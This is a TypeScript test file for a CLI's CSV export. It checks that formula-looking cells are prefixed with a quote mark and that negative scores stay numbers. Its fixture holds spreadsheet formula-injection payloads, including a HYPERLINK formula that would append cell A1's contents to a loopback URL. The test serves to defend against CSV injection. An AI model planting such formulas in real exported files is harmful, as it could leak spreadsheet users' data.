/**
 * `yardstick evaluate --format csv` through the real command: text that a spreadsheet would run
 * as a formula (ids, departments from the input file) comes out prefixed with `'`; numbers,
 * negative ones too, stay numbers.
 */
import { parse as parseCsv } from 'csv-parse/sync';
import { afterAll, expect, it } from 'vitest';
import { demoScheme, fixtureDir, runCli } from './helpers.ts';

/** The demo scheme with service = 100 − 10 × complaints, no longer floored at 0, so it can go negative. */
function negativeServiceScheme() {
  const s = demoScheme();
  const service = s.indicators.find((i) => i.key === 'service')!;
  delete service.min;
  service.score = { '-': [100, { '*': [10, { var: 'inputs.complaints' }] }] };
  return s;
}

const { dir, cleanup } = fixtureDir({
  'scheme.json': negativeServiceScheme(),
  'formulas.csv': [
    'id,position,department,sales,complaints,attitude.supervisor,attitude.peer',
    '"=HYPERLINK(""http://127.0.0.1:9/?x=""&A1,""Click me"")",sales,north,240,0,9,8',
    '+1,sales,@SUM(A1),200,1,8,7',
    '-1+2,sales,south,150,2,7,6',
    'E04,sales,"\t=1+1",100,3,6,5',
    'E05,driver,"\r=1+1",,0,10,9',
    'E06,driver,south,,13,8,8',
  ].join('\n'),
});
afterAll(cleanup);

it('prefixes formula-looking ids and departments with a quote mark and keeps a negative score numeric', async () => {
  const r = await runCli(['evaluate', 'scheme.json', 'formulas.csv', '--format', 'csv'], dir);
  expect(r.stderr).toBe('');
  expect(r.code).toBe(0);
  const lines = r.stdout.split('\n');
  expect(lines[1]!.startsWith(`"'=HYPERLINK(""http://127.0.0.1:9/?x=""&A1,""Click me"")",sales,north,`)).toBe(true);
  expect(lines[2]!.startsWith("'+1,sales,'@SUM(A1),")).toBe(true);
  expect(lines[3]!.startsWith("'-1+2,sales,south,")).toBe(true);
  const rows = parseCsv(r.stdout, { columns: true }) as Record<string, string>[];
  // The input reader trims cells, so the tab and carriage return are gone, the formula is not.
  expect(rows.map((row) => row.department)).toEqual(['north', "'@SUM(A1)", 'south', "'=1+1", "'=1+1", 'south']);
  // E06, a driver: service 100 − 10 × 13 = −30 (weight 50), attitude 10 × (0.6·8 + 0.4·8) = 80
  // (weight 50): total −15 + 40 = 25, D. The negative numbers are written as plain numbers.
  expect(lines[6]).toBe('E06,driver,south,,-30,80,,25,D,ok,');
});
